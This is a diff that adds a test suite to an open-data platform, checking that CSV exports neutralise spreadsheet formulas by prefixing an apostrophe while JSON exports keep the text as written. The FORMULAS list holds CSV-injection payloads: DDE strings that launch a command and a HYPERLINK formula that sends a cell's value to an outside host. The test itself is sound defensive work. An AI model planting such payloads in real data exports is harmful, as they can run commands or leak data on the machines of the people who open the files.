@@ -119,3 +119,72 @@ describe('what open data holds', () => {
     expect(withCredential.status).toBe(403);
   });
 });
+
+describe('spreadsheet formulas in open data', () => {
+  /** What a spreadsheet would run: each dangerous first character of a cell (=, +, -, @, tab, carriage return). */
+  const FORMULAS = [
+    '=HYPERLINK("http://x/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ];
+  /** Per dataset: the id of a published row written with formulas, and the text of each of its cells. */
+  const written: Record<string, Array<{ id: string; cells: Record<string, string> }>> = {};
+
+  beforeAll(async () => {
+    const { territory, participation, evaluation } = platform.subgraphs;
+    written.proposals = [];
+    for (const title of FORMULAS) {
+      const id = randomUUID();
+      await participation.ownerDataSource.query(
+        `INSERT INTO participation.proposal (collectivity_id, id, title, body, principle, source, citizen_submitted, consent_to_publish, published)
+         VALUES ($1, $2, $3, $4, 'TRANSPARENCY', 'ONLINE', true, true, true)`,
+        [DemoIds.tamazgana, id, title, title],
+      );
+      written.proposals.push({ id, cells: { title, body: title } });
+    }
+    const event = randomUUID();
+    await participation.ownerDataSource.query(
+      `INSERT INTO participation.event (collectivity_id, id, kind, title_ar, title_fr, venue, starts_at, published)
+       VALUES ($1, $2, 'PUBLIC_CONSULTATION', $3, $4, $5, now(), true)`,
+      [DemoIds.tamazgana, event, FORMULAS[1], FORMULAS[0], FORMULAS[3]],
+    );
+    written.events = [{ id: event, cells: { title_ar: FORMULAS[1], title_fr: FORMULAS[0], venue: FORMULAS[3] } }];
+    const collectivity = randomUUID();
+    await territory.ownerDataSource.query(`INSERT INTO territory.collectivity (id, kind, name_ar, name_fr) VALUES ($1, 'COMMUNE', $2, $3)`, [
+      collectivity,
+      FORMULAS[3],
+      FORMULAS[2],
+    ]);
+    written.collectivities = [{ id: collectivity, cells: { name_ar: FORMULAS[3], name_fr: FORMULAS[2] } }];
+    const program = randomUUID();
+    await evaluation.ownerDataSource.query(
+      `INSERT INTO evaluation.action_program (collectivity_id, id, title_ar, title_fr, published) VALUES ($1, $2, $3, $4, true)`,
+      [DemoIds.tamazgana, program, FORMULAS[4], FORMULAS[1]],
+    );
+    written['action-programs'] = [{ id: program, cells: { title_ar: FORMULAS[4], title_fr: FORMULAS[1] } }];
+    const commitment = randomUUID();
+    await evaluation.ownerDataSource.query(
+      `INSERT INTO evaluation.commitment (collectivity_id, id, program_id, title_ar, title_fr, lead_unit, principles, published)
+       VALUES ($1, $2, $3, $4, $5, $6, '{TRANSPARENCY}', true)`,
+      [DemoIds.tamazgana, commitment, program, FORMULAS[5], FORMULAS[0], FORMULAS[2]],
+    );
+    written.commitments = [{ id: commitment, cells: { title_ar: FORMULAS[5], title_fr: FORMULAS[0], lead_unit: FORMULAS[2] } }];
+  });
+
+  it.each(DATASETS)('%s: a CSV cell that would start a formula starts with an apostrophe, the JSON keeps the text as written', async (name) => {
+    const csv = parse((await download(`${name}.csv`)).text, { columns: true }) as Array<Record<string, string>>;
+    const records = await json(name);
+    expect(written[name].length).toBeGreaterThan(0);
+    for (const { id, cells } of written[name]) {
+      const csvRow = csv.find((row) => row.id === id)!;
+      const jsonRow = records.find((record) => record.id === id)!;
+      for (const [column, text] of Object.entries(cells)) {
+        expect(csvRow[column]).toBe(`'${text}`);
+        expect(jsonRow[column]).toBe(text);
+      }
+    }
+  });
+});
